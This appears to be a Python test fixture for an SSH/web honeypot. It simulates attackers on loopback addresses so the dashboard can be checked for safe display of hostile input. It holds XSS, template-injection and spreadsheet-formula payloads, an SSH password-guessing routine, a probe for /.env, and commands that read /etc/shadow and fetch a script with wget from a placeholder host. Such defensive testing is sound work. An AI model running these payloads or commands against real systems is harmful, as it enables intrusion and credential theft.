# SPDX-License-Identifier: MIT
"""Attackers with real clients, and what they write into every field that the dashboard shows."""

from __future__ import annotations

import asyncio
import functools
import http.client
from collections.abc import Sequence

import asyncssh

HOSTILE = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg/onload=window.pwned=1>',
    "javascript:window.pwned=1",
    "{{constructor.constructor('window.pwned=1')()}}",
    "'-window.pwned=1-'",
    "</title><script>window.pwned=1</script>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "\u202egnp.exe",
    '=HYPERLINK("http://203.0.113.1")',
)
"""Texts that run somewhere, or look like something else, when a page takes them for more than text."""
COMMANDS = (
    "uname -a",
    "id",
    "cat /etc/passwd",
    "cat /etc/shadow",
    "wget http://198.51.100.23/x.sh -O /tmp/x",
    "ls -la",
)
ACCEPTED = "admin123"
"""A password with which a decky of the persona debian-web lets root in."""


@functools.cache
def key_named(name: str) -> asyncssh.SSHKey:
    """Return the key of that name: whoever shows it is one actor."""
    return asyncssh.generate_private_key("ssh-ed25519", comment=name)


async def attack(
    host: str, source: str, *, port: int = 2222, user: str = "root", passwords: Sequence[str] = ("123456", ACCEPTED),
    commands: Sequence[str] = COMMANDS, pause: float = 0.05, stay: float = 0.0,
    key: str = "",
) -> bool:  # fmt: skip
    """Guess passwords over SSH from `source`; once in, type the commands, stay a while and leave; return whether in."""
    for password in passwords:
        try:
            async with (
                asyncssh.connect(
                    host, port, username=user, password=password, local_addr=(source, 0), known_hosts=None,
                    client_keys=[key_named(key)] if key else None, client_version="OpenSSH_9.2p1", connect_timeout=20,
                ) as connection,
                connection.create_process(term_type="xterm", term_size=(100, 30)) as shell,
            ):  # fmt: skip
                for command in commands:
                    shell.stdin.write(f"{command}\n")
                    await asyncio.sleep(pause)  # as somebody types
                await asyncio.sleep(stay)
                shell.stdin.write("exit\n")
                await asyncio.wait_for(shell.wait(), 60)
                return True
        except (asyncssh.PermissionDenied, asyncssh.ConnectionLost, TimeoutError):
            continue
    return False


def browse(host: str, source: str, paths: Sequence[str], *, agent: str = "curl/8.0", port: int = 8080) -> None:
    """Ask a decky's web server for pages from `source`."""
    for path in paths:
        connection = http.client.HTTPConnection(host, port, timeout=100, source_address=(source, 0))
        try:
            connection.putrequest("GET", path, skip_accept_encoding=True)
            connection.putheader("User-Agent", agent.encode("utf-8"))
            connection.endheaders()
            connection.getresponse().read()
        except (OSError, http.client.HTTPException):
            continue
        finally:
            connection.close()


async def fill(block: int) -> None:
    """Have a fleet in 127.77.`block`.0/24 attacked from many addresses, in every way that a page shows."""
    web, database = f"127.77.{block}.10", f"127.77.{block}.11"
    guesses = ("root", "123456")
    await asyncio.gather(
        *(attack(web, f"127.9.8.{number}") for number in range(1, 4)),
        *(attack(database, f"127.9.9.{number}", passwords=guesses) for number in range(1, 6)),
        attack(web, "127.9.7.1", user=HOSTILE[0], passwords=(HOSTILE[1], HOSTILE[2])),
        attack(web, "127.9.7.2", passwords=(ACCEPTED,), commands=[f"echo {text}" for text in HOSTILE]),
        attack(web, "127.9.7.3", user=HOSTILE[6], passwords=HOSTILE[3:5]),
        asyncio.to_thread(_browse_hostile, web),
    )


def _browse_hostile(host: str) -> None:
    for number, text in enumerate(HOSTILE):
        path = "/" + "".join(f"%{byte:02x}" for byte in text.encode("utf-8"))
        browse(host, f"127.9.6.{number + 1}", (path, "/.env"), agent=text)
